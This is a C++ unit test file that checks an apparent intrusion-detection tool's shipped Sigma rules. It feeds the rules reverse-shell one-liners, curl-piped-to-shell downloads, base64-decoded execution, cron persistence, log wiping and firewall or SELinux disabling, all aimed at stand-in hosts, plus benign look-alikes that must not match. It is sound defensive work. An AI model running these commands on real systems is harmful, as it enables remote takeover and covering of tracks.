// The rules that come with the package, by command lines that they are for, and by such as honest
// servers have.
#include <gtest/gtest.h>

#include <map>

#include "base/limits.h"
#include "base/os.h"
#include "sigma/compile.h"
#include "sigma/match.h"

namespace underseer::sigma {

namespace {

struct Started {
    const char *rule, *comm, *command_line;
    const char* parent = "/usr/sbin/init";
};

const Matcher& shipped(const std::string& rule) {
    static std::map<std::string, Matcher> all;
    const auto [at, fresh] = all.try_emplace(rule);
    if (!fresh) return at->second;
    const std::string path = std::string(UNDERSEER_SOURCE_DIR "/packaging/rules/") + rule + ".yml";
    const auto text = read_file(path, limits::kMaxSigmaFileBytes);
    EXPECT_TRUE(text.has_value()) << path;
    RuleSet set;
    if (text.has_value()) set.add(path, *text);
    for (const Refusal& refusal : set.refused) ADD_FAILURE() << path << ": " << refusal.message;
    auto matcher = Matcher::of(std::move(set.rules));
    EXPECT_TRUE(matcher.has_value());
    if (matcher.has_value()) at->second = std::move(*matcher);
    return at->second;
}

bool is_told(const Started& started) {
    Event event;
    event[Field::image] = Value::of(std::string("/usr/bin/") + started.comm);
    event[Field::comm] = Value::of(started.comm);
    event[Field::command_line] = Value::of(started.command_line);
    event[Field::parent_image] = Value::of(started.parent);
    event[Field::parent_command_line] = Value::of(started.parent);
    event[Field::user] = Value::of("root");
    return !shipped(started.rule).judge(event).rules.empty();
}

TEST(ShippedRules, TellOfWhatTheyAreFor) {
    const Started kAll[] = {
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f"},
        {"reverse_shell_fifo", "bash",
         "bash -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|/usr/bin/ncat 192.0.2.1 1 "
         ">/tmp/f"},
        {"reverse_shell_fifo", "sh",
         "sh -c mknod /tmp/b p; telnet 192.0.2.1 443 0</tmp/b | /bin/bash 1>/tmp/b"},
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect "
         "192.0.2.1:443 > /tmp/s"},
        {"reverse_shell_bash", "bash", "bash -c bash -i >& /dev/tcp/192.0.2.1/443 0>&1"},
        {"reverse_shell_bash", "bash", "bash -c exec 5<>/dev/tcp/192.0.2.1/443; sh -i <&5 >&5"},
        {"reverse_shell_bash", "sh", "sh -c /bin/bash -i>&/dev/udp/192.0.2.1/53 <&1"},
        {"security_turned_off", "ufw", "/usr/bin/python3 /usr/sbin/ufw disable"},
        {"security_turned_off", "aa-teardown", "/bin/sh /usr/sbin/aa-teardown"},
        {"security_turned_off", "setenforce", "setenforce 0"},
        {"reverse_shell_socat", "socat", "socat TCP:192.0.2.1:443 EXEC:'bash -li',pty"},
        {"reverse_shell_socat", "socat", "socat tcp:192.0.2.1:443 exec:/bin/sh,pty,stderr"},
        {"shell_of_web_server", "sh", "sh -c id", "/usr/sbin/nginx"},
        {"shell_of_database", "sh", "sh -c id", "/usr/lib/postgresql/15/bin/postgres"},
        {"log_wiping", "sh", "sh -c : > /var/log/wtmp"},
        {"log_wiping", "bash", "bash -c cat /dev/null > /var/log/auth.log; id"},
        {"download_into_shell", "sh", "sh -c curl -s http://192.0.2.1/x | sh"},
        {"download_into_shell", "bash", "bash -c curl -sL https://x.example/y | sudo -E bash -"},
        {"download_into_shell", "bash", "bash -c curl x.example | bash -s -- --quiet"},
        {"download_into_shell", "bash", "bash -c wget -qO- x.example|python3; rm x"},
        {"download_into_shell", "bash", "bash -c wget -qO- x.example | sh -ex > /dev/null 2>&1"},
        {"download_into_shell", "su", "su -c \"curl x.example | bash\""},
        {"decoded_into_shell", "sh", "sh -c echo aWQ= | base64 -d | sh"},
        {"decoded_into_shell", "sh", "sh -c base64 -d x|perl -"},
        {"download_in_cron", "sh", "sh -c echo \"* * * * * curl 192.0.2.1\" | crontab -"},
        {"download_in_cron", "sh", "sh -c echo '* * * * * root wget x.example' >> /etc/cron.d/x"},
        {"reverse_shell_script", "python3",
         "python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)"},
        {"reverse_shell_script", "perl", "perl -MIO -we use Socket;socket(S);exec(\"/bin/sh -i\")"},
        {"reverse_shell_script", "ruby", "ruby -rsocket -e exit if fork;exec(\"sh -i\");TCPSocket"},
        {"reverse_shell_script", "php", "php -r $s=fsockopen(\"x\",1);exec(\"/bin/sh -i\");"},
    };
    for (const Started& one : kAll)
        EXPECT_TRUE(is_told(one)) << one.rule << ": " << one.command_line;
}

TEST(ShippedRules, SayNothingOfWhatHonestServersDo) {
    const Started kAll[] = {
        {"reverse_shell_fifo", "sh",
         "/bin/sh -c mkfifo /tmp/log && (cat /tmp/log | tee /var/log/x &) && rsync -a /src/ /dst/"},
        {"reverse_shell_fifo", "sh",
         "/bin/sh -c mkfifo -m 600 /tmp/logpipe && cat <> /tmp/logpipe 1>&2 & sync && exec gosu x "
         "foo | cat"},
        {"reverse_shell_fifo", "sh",
         "sh -c mkfifo /tmp/p; until nc -z db 5432; do sleep 1; done; cat /tmp/p | logger -t x"},
        {"reverse_shell_fifo", "sh", "sh -c mkfifo /tmp/p && cat < /tmp/p | nc logs 514"},
        {"reverse_shell_bash", "ssh",
         "ssh -i /root/.ssh/id web1 timeout 3 bash -c '</dev/tcp/10.0.0.5/5432'"},
        {"reverse_shell_bash", "bash",
         "bash -c until (exec 3<>/dev/tcp/db/5432); do sleep 1; done; bash -it"},
        {"security_turned_off", "ufw", "/usr/bin/python3 /usr/sbin/ufw status"},
        {"security_turned_off", "vi", "vi /usr/sbin/ufw disable"},
        {"reverse_shell_socat", "socat", "socat - EXEC:ssh\\ web1,pty"},
        {"reverse_shell_socat", "socat", "socat TCP-LISTEN:80,fork EXEC:/opt/answer.sh"},
        {"shell_of_database", "sh", "sh -c pg_archivecleanup /srv/archive 0001",
         "/usr/lib/postgresql/15/bin/postgres"},
        {"shell_of_web_server", "sh",
         "/bin/sh -c while :; do sleep 6h & wait $!; nginx -s reload; done & nginx -g x",
         "/usr/sbin/nginx"},
        {"log_wiping", "sh", "sh -c true > /var/log/messages-import.log"},
        {"download_into_shell", "sh", "sh -c curl -s http://localhost/x | python3 -m json.tool"},
        {"download_into_shell", "sh", "sh -c curl -s localhost | python3 -c import json"},
        {"download_into_shell", "sh", "sh -c curl -s localhost | perl -ne 'print'"},
        {"download_into_shell", "sh", "sh -c git fetch origin && git log | sh /opt/notes.sh"},
        {"download_into_shell", "sh", "sh -c git fetch origin | bash"},
        {"decoded_into_shell", "sh", "sh -c echo e30= | base64 -d | python3 -m json.tool"},
        {"download_in_cron", "sh",
         "sh -c curl -s localhost/health > /dev/null; run-parts /etc/cron.hourly"},
        {"reverse_shell_script", "python3",
         "python3 /opt/agent.py -c /etc/agent.conf --socket /run/a.sock --shell /bin/bash"},
    };
    for (const Started& one : kAll)
        EXPECT_FALSE(is_told(one)) << one.rule << ": " << one.command_line;
}

}  // namespace

}  // namespace underseer::sigma
